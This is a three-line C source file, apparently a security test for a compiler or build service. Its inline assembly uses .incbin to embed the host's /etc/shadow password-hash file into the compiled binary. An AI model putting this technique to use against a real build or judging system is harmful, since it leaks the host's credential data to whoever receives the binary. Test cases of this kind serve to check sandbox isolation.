// Compiler attack: embedding a host file into the binary with the assembler.
asm(".section .rodata\n.incbin \"/etc/shadow\"\n.previous");
int main() {}
